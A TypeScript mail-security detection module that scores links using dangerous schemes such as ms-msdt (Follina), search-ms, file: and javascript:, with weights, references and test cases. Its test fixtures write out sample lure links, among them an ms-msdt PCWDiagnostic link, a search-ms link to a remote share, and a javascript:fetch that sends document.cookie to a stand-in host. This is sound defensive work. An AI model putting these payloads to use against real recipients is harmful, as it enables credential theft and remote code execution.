import type { DetectionHit, MailDetection } from '../mail-detection.ts';
import type { SchemeLink } from '../mail-features.ts';

interface SchemeRule {
  /** Which links the rule covers. */
  matches: (l: SchemeLink) => boolean;
  weight: number;
  /** What the link opens, for the recipient and the analyst. */
  opens: string;
}

const officeDocument = /^ms-(word|excel|powerpoint|visio|access|project|publisher|spd|infopath)$/;
const activeData = /^data:\s*(text\/html|text\/javascript|application\/|image\/svg\+xml|text\/xml)/i;
// Schemes that address someone or name a document without running anything (the mail or phone app, an FTP download,
// a manual page, an inline image): listed in the pane, never a reason.
const harmless: ReadonlySet<string> = new Set(['mailto', 'tel', 'sms', 'callto', 'facetime', 'cid', 'mid', 'about', 'webcal', 'ftp', 'ftps', 'news', 'nntp', 'man', 'info', 'geo', 'xmpp']);

// First matching rule wins; the data is the detection. Weights: running code or a diagnostic tool straight from a link
// (Follina) highest, then handlers that show remote files as local or open Office documents from the internet.
const rules: readonly SchemeRule[] = [
  { matches: (l) => l.scheme === 'ms-msdt', weight: 45, opens: 'the Microsoft Support Diagnostic Tool (ms-msdt:, the "Follina" remote code execution)' },
  { matches: (l) => l.scheme === 'search-ms' || l.scheme === 'search', weight: 40, opens: 'Windows Search on a remote folder (search-ms:), which shows the attacker\'s files as if they were on this computer' },
  { matches: (l) => l.scheme === 'ms-officecmd', weight: 40, opens: "Office's command handler (ms-officecmd:), which can launch Office apps with attacker-chosen options" },
  { matches: (l) => l.scheme === 'ms-appinstaller', weight: 40, opens: 'the Windows App Installer (ms-appinstaller:), which installs a program from the internet' },
  { matches: (l) => l.scheme === 'javascript' || l.scheme === 'vbscript', weight: 40, opens: 'a script (javascript: or vbscript:) instead of a page' },
  { matches: (l) => l.scheme === 'data' && activeData.test(l.url), weight: 40, opens: 'a whole web page or file hidden inside the link itself (data:)' },
  { matches: (l) => l.scheme === 'data' || harmless.has(l.scheme), weight: 0, opens: '' },
  { matches: (l) => l.scheme === 'file' || l.scheme === 'smb', weight: 35, opens: 'a file or network share (file:) that can run a program or hand over your Windows sign-in' },
  { matches: (l) => officeDocument.test(l.scheme), weight: 30, opens: 'an Office document straight from the internet (ms-word:, ms-excel: …)' },
  { matches: (l) => l.scheme.startsWith('ms-'), weight: 25, opens: 'a Windows program through its ms- link handler' },
  { matches: (l) => l.scheme === 'itms-services' || l.scheme === 'intent', weight: 30, opens: 'an app installer on a phone (itms-services: or intent:)' },
  // anything else: a rare handler or a typo ("hhttp:"); a hint, not a verdict
  { matches: () => true, weight: 5, opens: 'another program on this computer instead of a web page' },
];

export const detection: MailDetection = {
  id: 'link.dangerous-scheme',
  title: 'Link opens a program instead of a web page',
  description:
    "A link in a scheme that hands its target to a local protocol handler (search-ms:, ms-msdt:, ms-officecmd:, ms-appinstaller:, Office's ms-word:/ms-excel:, file: and UNC paths) or runs code (javascript:, vbscript:, data:text/html). Mail has no business opening these: they are used to run the Support Diagnostic Tool (Follina), show remote malware as local files, leak Windows credentials to a remote share, or smuggle a page past link scanners. mailto:, tel: and similar addressing schemes are listed but harmless.",
  category: 'link',
  maxWeight: 50,
  references: [
    'https://msrc.microsoft.com/update-guide/vulnerability/CVE-2022-30190',
    'https://attack.mitre.org/techniques/T1204/001/',
    'https://attack.mitre.org/techniques/T1187/',
    'https://learn.microsoft.com/en-us/office/client-developer/office-uri-schemes',
  ],
  falsePositives: [
    'Internal IT mail that links to a file share (file:// or \\\\server\\share) or an Office document through ms-word: links; allow it by disabling or scaling the detection for the tenant.',
  ],
  gaps: [
    'The target is not followed: a web page that redirects to one of these schemes is not seen.',
    'Schemes in link text that is not clickable (an image, a QR code) are not read.',
  ],
  evaluate(m) {
    const byRule = new Map<SchemeRule, SchemeLink[]>();
    for (const l of m.schemeLinks) {
      const rule = rules.find((r) => r.matches(l));
      if (!rule || rule.weight === 0) continue;
      byRule.set(rule, [...(byRule.get(rule) ?? []), l]);
    }
    const hits: DetectionHit[] = [];
    for (const [rule, links] of byRule) {
      const first = links[0]!;
      const shown = first.text && first.text !== first.url ? ` behind '${first.text.slice(0, 80)}'` : '';
      const remote = first.hostUnicode ? ` (remote host ${first.hostUnicode})` : '';
      hits.push({
        weight: rule.weight,
        evidence: `${links.length} link(s) in the ${first.scheme}: scheme${shown}${remote}: ${first.url.slice(0, 200)}`,
        plain: `a link${shown} opens ${rule.opens}`,
        links: links.map((l) => l.url),
      });
    }
    return hits;
  },
  cases: [
    {
      name: 'search-ms and ms-msdt lure',
      kind: 'true-positive',
      fires: true,
      mail: { from: 'IT <it@example.org>', html: '<a href="search-ms:query=invoice&amp;crumb=location:\\\\203.0.113.7@80\\share">Open invoice</a> <a href="ms-msdt:/id PCWDiagnostic /skip force">Fix</a>' },
    },
    { name: 'javascript: written in a plain-text body', kind: 'true-positive', fires: true, mail: { from: 'A <a@example.org>', text: 'click javascript:fetch("//x.example/"+document.cookie)' } },
    { name: 'web links only', kind: 'true-negative', fires: false, mail: { from: 'A <a@example.org>', html: '<a href="https://example.org/report">report</a>' } },
    {
      name: 'mailto:, tel:, ftp: and inline-image data: links',
      kind: 'near-miss',
      fires: false,
      mail: { from: 'A <a@example.org>', html: '<a href="mailto:help@example.org">write</a>, <a href="tel:+441234567890">call</a>, <a href="ftp://ftp.example.org/pub/">mirror</a>, <a href="data:image/png;base64,iVBORw0KGgo=">chart</a>' },
    },
    { name: 'File: and Search: written in prose', kind: 'near-miss', fires: false, mail: { from: 'A <a@example.org>', text: 'File:2920 attached. Search:the archive. JavaScript:the good parts' } },
  ],
};
